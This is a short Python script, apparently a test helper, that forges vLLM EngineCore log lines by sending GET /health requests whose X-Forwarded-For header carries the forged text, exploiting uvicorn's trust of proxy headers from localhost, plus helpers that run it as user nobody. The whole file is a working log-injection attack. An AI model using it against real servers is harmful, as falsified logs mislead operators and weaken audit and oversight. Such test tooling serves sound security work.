"""A log forger: another local user, without the API key, sending `GET /health` to the API server with an
`X-Forwarded-For` header that holds a line of vLLM's EngineCore (uvicorn trusts proxy headers from 127.0.0.1 by
default, and its access log writes the client address it took from them, with no vLLM prefix before it).

Run as a file, as an unprivileged user: `python log_forger.py HOST PORT LINE...`. Until killed it sends one request
per LINE in turn, every 50 ms, each LINE as `X-Forwarded-For` (its bytes as latin-1: a U+0085 goes as byte 0x85,
which uvicorn logs as U+0085), and writes `sent N, answered M` after each round.
"""

from __future__ import annotations

import socket
import sys
import time


def send(host: str, port: int, forged: str) -> bool:
    request = (
        f"GET /health HTTP/1.1\r\nHost: {host}:{port}\r\nX-Forwarded-For: {forged}\r\nConnection: close\r\n\r\n"
    ).encode("latin-1")
    try:
        with socket.create_connection((host, port), timeout=5) as conn:
            conn.sendall(request)
            return conn.recv(64).startswith(b"HTTP/1.1 ")
    except OSError:
        return False


def main() -> None:
    host, port, lines = sys.argv[1], int(sys.argv[2]), sys.argv[3:]
    sent = answered = 0
    while True:
        for line in lines:
            sent += 1
            answered += send(host, port, line)
            time.sleep(0.05)
        print(f"sent {sent}, answered {answered}", flush=True)


if __name__ == "__main__":
    main()


# --- for the tests that start one ---------------------------------------------------------------

NOBODY = ("setpriv", "--reuid=65534", "--regid=65534", "--clear-groups")


def argv(python: str, host: str, port: int, lines: list[str]) -> list[str]:
    """The forger as user nobody (`-I`: nothing of the caller's environment or folder imported)."""
    return [*NOBODY, python, "-I", __file__, host, str(port), *lines]


def answered(log) -> int:
    """How many of its requests the server answered, from the forger's last line in `log` (a Path)."""
    said = [line for line in log.read_text().splitlines() if line.startswith("sent ")]
    return int(said[-1].split()[-1]) if said else 0
